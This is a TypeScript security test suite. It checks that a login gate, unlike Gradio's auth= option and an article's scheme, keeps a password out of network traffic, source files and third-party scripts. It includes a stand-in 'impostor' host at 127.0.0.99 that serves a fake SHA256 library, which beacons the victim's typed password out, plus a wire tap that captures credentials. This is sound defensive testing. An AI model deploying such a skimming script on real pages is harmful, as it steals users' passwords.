/**
 * The story: a password is no secret any more once it lies in requests, in source files or in somebody else's script.
 * Gradio's `auth=` sends it with every login and keeps it in the source; the article's page hands it to whoever answers
 * for the host of its script. At the gate it never leaves the browser's own page, which loads nothing from elsewhere.
 */
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { runInNewContext } from 'node:vm'
import { afterAll, describe, expect, it } from 'vitest'
import { paths } from '../../src/contract/contract.ts'
import { ask } from '../rig/ask.ts'
import { startWireTap } from '../rig/wire-tap.ts'
import { gateDoor, gradioDoor, type Credentials, type Door } from './doors.ts'
import { guessOffline } from './offline-guesser.ts'
import { readAll } from './read-all.ts'
import { useApp, useAppWithAuth, useGate } from './targets.ts'

const withAuth = useAppWithAuth()
// The article's page names the address, so it is taken before anything starts.
const impostor = await startImpostor()
const article = useApp('article', { env: { ARTICLE_SCRIPT: impostor.script } })
const gate = useGate(article)
const apps = path.join(import.meta.dirname, '..', 'rig', 'apps')

describe('1.05 password readable in what the client sends', () => {
  /** Reads along while somebody signs in. */
  async function overhearPassword(url: string, door: (url: string) => Door, credentials: Credentials) {
    const tap = await startWireTap(url)
    const knock = await door(tap.url).knock(credentials)
    await tap.stop()
    expect(knock.kind).toBe('in')
    return guessOffline(`${tap.sent}\n${tap.answered}`, [credentials.password])
  }

  it('succeeds on auth=', async () => {
    const bob = { user: 'bob', password: 'bobpw' }
    expect(await overhearPassword(withAuth().url, gradioDoor, bob)).toBe('bobpw')
  })

  it('is blocked by the gate: neither the password nor anything made from it alone is sent', async () => {
    const { url, password } = gate()
    expect(await overhearPassword(url, gateDoor, { password })).toBeUndefined()
  })
})

describe('1.06 password at rest in plain text', () => {
  it('succeeds on auth=, whose passwords stand in the source', async () => {
    const source = await readFile(path.join(apps, 'careless.py'), 'latin1')
    expect(guessOffline(source, ['bobpw'])).toBe('bobpw')
  })

  it("succeeds on the article's scheme", async () => {
    const source = await readFile(path.join(apps, 'article.py'), 'latin1')
    expect(guessOffline(source, ['password'])).toBe('password')
  })

  it('is blocked by the gate: no file of its state holds the password or a hash of it, nor does the key file', async () => {
    const { home, password } = gate()
    const files = await readAll(home)
    expect(files.length).toBeGreaterThan(10_000)
    expect(guessOffline(files, [password])).toBeUndefined()
  })
})

describe("1.11 whoever answers for the script's host gets the password", () => {
  /** What it loads from other hosts by its markup. A link leads there, and loads nothing. */
  function foreignIn(page: string, url: string): readonly string[] {
    // Gradio's page carries its head and its handlers as JSON, escaped for a script element.
    const body = page.replaceAll('\\u003c', '<').replaceAll('\\u003e', '>').replaceAll('\\"', '"')
    const loading = /<(?!a\s)[a-z][^<>]*?\s(?:src|href|data|action)\s*=\s*["']?([^"'\s>]+)/gi
    const sources = [...body.matchAll(loading)].map(([, source = '']) => new URL(source, url))
    return sources.filter(({ origin }) => origin !== new URL(url).origin).map(({ href }) => href)
  }

  /** Its scripts from other hosts run when a visitor types a password and submits; answers what else came from there too. */
  async function visitAsVictim(url: string, page: string, typed: string): Promise<readonly string[]> {
    const answer = await ask(url, page, { headers: { accept: 'text/html' } })
    const foreign = foreignIn(answer.body, url)
    const window: Record<string, unknown> = { beacon: (to: string) => impostor.hear(to) }
    for (const source of foreign) runInNewContext((await ask(source, new URL(source).pathname)).body, window)
    const handler = /"js":"((?:[^"\\]|\\.)*pre_submit(?:[^"\\]|\\.)*)"/.exec(answer.body)?.[1]
    if (handler === undefined) return foreign
    const source = JSON.parse(`"${handler}"`) as string
    runInNewContext(`(${source})(${JSON.stringify(typed)}, 'challenge', '', '', '', '')`, window)
    return foreign
  }

  it("succeeds on the article's page as it was printed", async () => {
    const foreign = await visitAsVictim(article().url, '/', 'typed-by-the-victim')
    expect(foreign).toEqual([impostor.script])
    expect(impostor.heard.join()).toContain('typed-by-the-victim')
  })

  it("is blocked by the gate: its page loads nothing from elsewhere, and its policy wouldn't let it", async () => {
    const { url } = gate()
    expect(await visitAsVictim(url, paths.login, 'typed-by-the-victim')).toEqual([])
    const { headers, body } = await ask(url, paths.login)
    expect(body).toContain('type="password"')
    // With one in it, the same page would be told from this one.
    const taken = body.replace('</head>', `<script src="${impostor.script}"></script></head>`)
    expect(foreignIn(taken, url)).toEqual([impostor.script])
    const policy = String(headers['content-security-policy'])
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("script-src 'self'")
    expect(policy).toContain("connect-src 'self'")
    expect(policy).toContain("form-action 'none'")
    expect(policy).not.toMatch(/unsafe|https?:|\*/)
  })
})

/** Somebody who has taken over the name that the article's script came from. */
async function startImpostor() {
  const heard: string[] = []
  const server = createServer((_, answer) => {
    answer.end('var Hashes = { SHA256: function () { this.hex = (text) => (beacon(text), "0") } }')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.99', resolve))
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())))
  const { port } = server.address() as AddressInfo
  return {
    heard,
    hear: (text: string) => heard.push(text),
    script: `http://127.0.0.99:${String(port)}/hashes.js`,
  }
}
